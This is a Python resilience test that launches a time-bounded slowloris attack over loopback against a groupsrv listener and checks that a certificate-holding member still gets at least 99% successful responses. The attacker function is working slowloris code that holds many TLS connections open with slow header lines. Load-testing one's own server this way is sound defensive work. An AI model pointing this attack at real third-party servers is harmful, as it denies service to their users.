#!/usr/bin/env python3
"""slowloris.py: a slowloris attack on one listener of a real groupsrv while
a member connects anew for every request, over loopback only.

  slowloris.py ATTACK_PORT MEMBER_URL_PORT MEMBER_PATH BODY_FILE CERT KEY CA SECONDS CONNS

Attackers: CONNS TLS connections without a client certificate, spread over
several source addresses (127.0.0.10 ...), each sending "POST / HTTP/1.1"
and then one header line a second, never finishing; a connection that the
server closes is opened again after a short pause, for SECONDS. The member
(from 127.0.0.2) opens a new TLS connection with its certificate for each
request and sends one whole request (BODY_FILE to MEMBER_PATH; GET when
BODY_FILE is "-"), with a 10 s limit. Prints one summary line and exits 1
if fewer than 99 % of the member's requests got their answer (200), or if
any of them hung past the limit. Every loop is bounded in time.
"""
import os
import socket
import ssl
import sys
import threading
import time

attack_port, member_port = int(sys.argv[1]), int(sys.argv[2])
member_path, body_file = sys.argv[3], sys.argv[4]
cert, key, cafile = sys.argv[5], sys.argv[6], sys.argv[7]
seconds, conns = float(sys.argv[8]), int(sys.argv[9])
HOST = "127.0.0.1"
ATTACK_ADDRS = ["127.0.0.%d" % (10 + i) for i in range(6)]

stop = threading.Event()
attack_stats = {"opened": 0, "closed_by_server": 0}
lock = threading.Lock()


def attacker(src):
    ctx = ssl.create_default_context(cafile=cafile)
    ctx.check_hostname = False
    while not stop.is_set():
        s = None
        try:
            raw = socket.create_connection((HOST, attack_port), timeout=5, source_address=(src, 0))
            s = ctx.wrap_socket(raw, server_hostname="localhost")
            with lock:
                attack_stats["opened"] += 1
            s.sendall(b"POST / HTTP/1.1\r\nHost: x\r\n")
            while not stop.wait(1.0):
                s.sendall(b"X-a: b\r\n")
        except (OSError, ssl.SSLError):
            with lock:
                attack_stats["closed_by_server"] += 1
        finally:
            if s is not None:
                try:
                    s.close()
                except OSError:
                    pass
        stop.wait(0.2)


def member_request():
    ctx = ssl.create_default_context(cafile=cafile)
    ctx.check_hostname = False
    ctx.load_cert_chain(cert, key)
    body = b"" if body_file == "-" else open(body_file, "rb").read()
    method = "GET" if body_file == "-" else "POST"
    raw = socket.create_connection((HOST, member_port), timeout=10, source_address=("127.0.0.2", 0))
    raw.settimeout(10)
    with ctx.wrap_socket(raw, server_hostname="localhost") as s:
        s.sendall(("%s %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
                   % (method, member_path, len(body))).encode() + body)
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    return data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/1.1 ") else "none"


def main():
    threads = [threading.Thread(target=attacker, args=(ATTACK_ADDRS[i % len(ATTACK_ADDRS)],), daemon=True)
               for i in range(conns)]
    for t in threads:
        t.start()
    time.sleep(min(3.0, seconds / 4))  # let the attack fill the listener
    ok = failed = hung = 0
    statuses = {}
    # For the time given, and on until 20 member requests were made (at
    # most a minute more): a loaded machine (CI's 2 cores shared with the
    # build) fits fewer requests in the time, and the verdict is on their
    # success, not their rate.
    end = time.monotonic() + seconds
    while time.monotonic() < end or (ok + failed < 20 and time.monotonic() < end + 60):
        t0 = time.monotonic()
        try:
            st = member_request()
        except (OSError, ssl.SSLError) as e:
            st = type(e).__name__
        if time.monotonic() - t0 >= 10:
            hung += 1
        statuses[st] = statuses.get(st, 0) + 1
        if st == "200":
            ok += 1
        else:
            failed += 1
    stop.set()
    total = ok + failed
    rate = 100.0 * ok / total if total else 0.0
    print("slowloris port=%d attackers=%d opened=%d closed_by_server=%d member_requests=%d ok=%d "
          "success=%.1f%% hung=%d statuses=%s"
          % (attack_port, conns, attack_stats["opened"], attack_stats["closed_by_server"], total, ok, rate, hung,
             statuses))
    sys.stdout.flush()
    if total < 20 or rate < 99.0 or hung:
        os._exit(1)
    os._exit(0)


main()
